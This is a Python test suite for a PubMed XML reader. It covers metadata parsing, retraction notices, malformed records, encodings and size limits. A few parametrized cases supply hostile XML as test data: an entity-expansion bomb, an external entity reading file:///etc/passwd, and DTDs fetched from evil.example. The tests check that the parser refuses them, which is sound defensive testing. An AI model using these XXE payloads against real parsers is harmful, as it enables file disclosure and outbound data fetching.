import io
import tracemalloc

import pytest

from research.sources.errors import SourceMalformed
from research.sources.pubmed_xml import read_pubmed_xml
from research.sources.reading import Limits
from research.sources.records import Grant, JournalKind, NoticeKind, PartialDate, RecordKind

from .helpers import read_xml, reply

HEAD = b'<?xml version="1.0"?>\n<PubmedArticleSet>\n'
TAIL = b"</PubmedArticleSet>\n"


def article(pmid: int, title: str = "A study") -> bytes:
    return (
        f"<PubmedArticle>\n<MedlineCitation><PMID>{pmid}</PMID>\n<Article><ArticleTitle>{title}</ArticleTitle></Article>"
        "</MedlineCitation>\n</PubmedArticle>\n"
    ).encode()


def whole(*articles: bytes) -> bytes:
    return HEAD + b"".join(articles) + TAIL


def outcome(data: bytes, **options):
    records, problems = read_xml(data, **options)
    return [record.pmid for record in records], [(problem.record, problem.line) for problem in problems]


@pytest.fixture(scope="module")
def traps():
    records, problems = read_xml(reply("pubmed/traps.xml"))
    assert problems == []
    return {record.pmid: record for record in records}


@pytest.fixture(scope="module")
def retractions():
    records, problems = read_xml(reply("pubmed/retractions.xml"))
    assert problems == []
    return {record.pmid: record for record in records}


def test_markup_is_walked_and_raised_figures_stay_raised(traps):
    assert traps["90000001"].title == "Effect of H2O on 10⁹ E. coli cells."


def test_the_doi_is_the_papers_own_and_valid(traps):
    assert traps["90000001"].doi == "10.5555/right"
    assert traps["90000002"].doi == ""


def test_an_abstract_keeps_label_category_and_order(traps):
    parts = [(part.label, part.category, part.text) for part in traps["90000001"].abstract]

    assert parts == [("Aims", "OBJECTIVE", "To see."), ("What we did", "", "We looked at 10⁻³.")]


def test_a_lay_summary_is_no_part_of_the_abstract(traps):
    assert traps["90000001"].lay_summary == "In plain words."
    assert traps["90000002"].lay_summary == ""


def test_authors_keep_groups_and_leave_out_the_invalid(traps):
    record = traps["90000001"]

    assert [author.name for author in record.authors] == ["Park JH", "The Example Study Group", "Smith J Jr"]
    assert record.authors[0].orcid == "0000-0002-1825-0097"
    assert record.authors_complete is False
    assert traps["90000002"].authors == ()


def test_dates_have_only_the_parts_that_were_given(traps):
    assert traps["90000001"].date == PartialDate(2021, 3, 5, "2021 03 05")
    assert traps["90000002"].date == PartialDate(1998, None, None, "1998 Dec-1999 Jan")
    assert traps["90000003"].date == PartialDate(2001, None, None, "2001 Spring")


def test_a_translated_title_loses_its_brackets_and_keeps_the_original(traps):
    record = traps["90000002"]

    assert (record.title, record.title_is_translated) == ("Of reindeer [and lichens].", True)
    assert (record.original_title, record.language) == ("Om renar.", "swe")


def test_a_title_that_is_not_available_is_empty(traps):
    assert (traps["90000003"].title, traps["90000003"].original_title) == ("", "Utan namn.")


def test_what_machines_indexed_is_marked(traps):
    animals, sclerosis = traps["90000001"].mesh_terms

    assert (animals.ui, animals.name, animals.is_major, animals.is_automated) == ("D000818", "Animals", False, True)
    assert (sclerosis.qualifiers[0].ui, sclerosis.qualifiers[0].is_major) == ("Q000188", True)


def test_money_and_interests_that_are_not_stated_are_not_none_declared(traps):
    assert traps["90000001"].funding == (Grant("Example Fund", "X1", "Nowhere"),)
    assert traps["90000001"].interests == "J.S. was paid by the maker."
    assert traps["90000002"].interests is None


def test_a_journal_is_known_by_its_linking_issn(traps):
    journal = traps["90000001"].journal

    assert (journal.name, journal.issn, journal.issns) == (
        "Journal of Examples",
        "1111-111X",
        ("1111-111X", "2222-2222"),
    )


def test_preprints_and_chapters_are_told(traps):
    assert (traps["90000002"].kind, traps["90000002"].journal.kind) == (
        RecordKind.PREPRINT,
        JournalKind.PREPRINT_SERVER,
    )
    chapter = traps["90000004"]
    assert (chapter.kind, chapter.title, chapter.journal.name) == (
        RecordKind.BOOK_CHAPTER,
        "A chapter",
        "Book of Examples",
    )
    assert [author.name for author in chapter.authors] == ["Writer W"]
    assert chapter.doi == "10.5555/chapter"


def test_what_happened_is_told_with_word_date_and_place(traps):
    erratum, concern, unknown = traps["90000001"].notices

    assert (erratum.kind, erratum.raw_word, erratum.pmid) == (NoticeKind.CORRECTION, "ErratumIn", "")
    assert (concern.kind, concern.doi, concern.pmid) == (NoticeKind.CONCERN, "10.5555/eoc", "90000098")
    assert concern.date == PartialDate(2021, 5, 6, "2021 May 6")
    assert concern.link == "https://doi.org/10.5555/eoc"
    assert unknown.kind is NoticeKind.NEEDS_A_LOOK
    assert traps["90000001"].patient_summaries == ("90000097",)


def test_an_erratum_is_never_merged_into_a_retraction(retractions):
    kinds = [notice.kind for notice in retractions["90000011"].notices]

    assert kinds == [NoticeKind.RETRACTION, NoticeKind.CORRECTION]


@pytest.mark.parametrize(
    ("pmid", "is_retracted", "is_notice"),
    [
        ("90000011", True, False),
        ("90000012", False, True),
        ("90000013", True, False),
        ("90000014", False, True),
        ("90000015", False, False),
        ("90000016", False, False),
        ("90000017", False, False),
        ("90000018", False, False),
    ],
)
def test_the_retracted_paper_and_its_notice_are_told_apart(retractions, pmid, is_retracted, is_notice):
    record = retractions[pmid]

    assert (record.is_retracted, record.is_notice) == (is_retracted, is_notice)


def test_versions_replacements_and_titles_are_told(retractions):
    versions = retractions["90000016"]
    assert [notice.kind for notice in versions.notices] == [NoticeKind.NEWER_VERSION]
    assert versions.notice_of[0].doi == "10.1101/2023.03.21"
    assert [notice.kind for notice in retractions["90000017"].notices] == [NoticeKind.MARKED_WITHDRAWN]
    assert [notice.kind for notice in retractions["90000018"].notices] == [NoticeKind.REPLACEMENT]


@pytest.mark.parametrize(
    "bad",
    [
        article(2, "a & b"),
        article(2, "a &nbsp; b"),
        article(2, "a &undeclared; b"),
        article(2).replace(b"A study", b"A st\xfcdy"),
        article(2).replace(b"</PubmedArticle>", b""),
        article(2)[:70],
        article(2, "<i>" * 80 + "</i>" * 80),
        b"<PubmedArticle><MedlineCitation></MedlineCitation></PubmedArticle>\n",
        b"<PubmedArticle></PubmedArticle>\n",
    ],
    ids=["ampersand", "html entity", "unknown entity", "bytes", "no end", "cut", "deep", "no number", "empty"],
)
def test_the_records_around_a_bad_one_still_come_out(bad):
    pmids, problems = outcome(whole(article(1), bad, article(3)))

    assert pmids == ["1", "3"]
    assert [number for number, _ in problems] == [2]


@pytest.mark.parametrize("chunk", [1, 7, 64, 1000])
def test_the_size_of_the_pieces_changes_nothing(monkeypatch, chunk):
    data = whole(article(1), article(2).replace(b"</PubmedArticle>", b""), article(3, "a & b"), article(4))
    at_once = outcome(data)

    monkeypatch.setattr("research.sources.reading.CHUNK_BYTES", chunk)

    assert outcome(data) == at_once
    assert at_once[0] == ["1", "4"]


def test_a_record_knows_its_line_and_number():
    records, _ = read_xml(b"\n\n" + whole(article(1), article(2)))

    assert [(record.line, record.number) for record in records] == [(5, 1), (9, 2)]


def test_a_problem_names_file_line_record_and_reason():
    _, problems = read_xml(whole(article(1), article(2, "a & b")))

    assert str(problems[0]).startswith("set.xml, line 9, record 2: This is not well-formed XML")


def test_a_cut_off_file_gives_the_records_before_the_cut():
    pmids, problems = outcome(whole(article(1), article(2))[:-60])

    assert pmids == ["1"]
    assert problems[0][0] == 2


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (
            b'<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;">]><PubmedArticleSet>&c;</PubmedArticleSet>',
            "document type",
        ),
        (
            b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PubmedArticleSet>&a;</PubmedArticleSet>',
            "document type",
        ),
        (b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><PubmedArticleSet/>', "document type"),
        (b"<!DOCTYPE x []><PubmedArticleSet/>", "document type"),
        (reply("pubmed/bad_gateway.html"), "web page"),
        (b"<html><body/></html>", "web page"),
        (b"<article><front/></article>", "full text"),
        (reply("pubmed/efetch_error.xml"), "ID list is empty"),
        (whole(), "No PubMed record"),
        (b"<feed><entry/></feed>", "No PubMed record"),
        (b'<?xml version="1.0" encoding="zlib"?><PubmedArticleSet/>', "encoding"),
        (b'<?xml version="1.0" encoding="utf-7"?><PubmedArticleSet/>', "encoding"),
        ("<PubmedArticleSet/>".encode("utf-16")[:-1], "UTF-16"),
    ],
)
def test_a_file_that_is_no_pubmed_xml_is_refused_in_words(data, words):
    with pytest.raises(SourceMalformed, match=words):
        read_xml(data)


def test_an_external_document_type_is_never_asked_for(monkeypatch):
    monkeypatch.setattr("socket.socket", lambda *_, **__: pytest.fail("the network was asked"))
    doctype = b'<!DOCTYPE PubmedArticleSet SYSTEM "http://evil.example/pubmed.dtd">\n'

    assert outcome(doctype + b"<PubmedArticleSet>" + article(1) + TAIL)[0] == ["1"]


@pytest.mark.parametrize(
    ("encoding", "mark"),
    [("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"), ("utf-16-le", b""),
     ("iso-8859-1", b""), ("windows-1252", b"")],
)  # fmt: skip
def test_declared_and_marked_encodings_are_read(encoding, mark):
    name = "UTF-16" if encoding.startswith("utf-16") else encoding
    text = f'<?xml version="1.0" encoding="{name}"?><PubmedArticleSet>{article(1, "Über").decode()}</PubmedArticleSet>'

    records, problems = read_xml(mark + text.encode(encoding))

    assert [record.title for record in records] == ["Über"]
    assert problems == []


def test_a_large_file_is_refused_without_reading_on():
    class Endless:
        given = 0

        def read(self, size: int = -1, /) -> bytes:
            self.given += size
            return b" " * size

    stream = Endless()

    with pytest.raises(SourceMalformed, match="larger than 5 MB"):
        list(read_pubmed_xml(stream, "big.xml"))

    assert stream.given < 6_000_000


def test_records_and_problems_are_capped():
    many = whole(*[article(number) for number in range(1, 21)])
    records, problems = read_xml(many, limits=Limits(max_records=5))
    assert (len(records), len(problems)) == (5, 1)
    assert "stopped after 5 records" in problems[0].reason

    bad = whole(*[article(number, "a & b") for number in range(1, 21)])
    assert len(read_xml(bad, limits=Limits(max_problems=3))[1]) == 4


def test_exactly_as_many_records_as_allowed_are_no_problem():
    assert read_xml(whole(article(1), article(2)), limits=Limits(max_records=2))[1] == []


def test_memory_holds_one_record_and_not_the_file():
    data = whole(*[article(number, "x" * 2000) for number in range(1, 2001)])
    tracemalloc.start()

    records_seen = sum(1 for _ in read_pubmed_xml(io.BytesIO(data), "big.xml"))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert records_seen == 2000
    assert peak < len(data) / 2
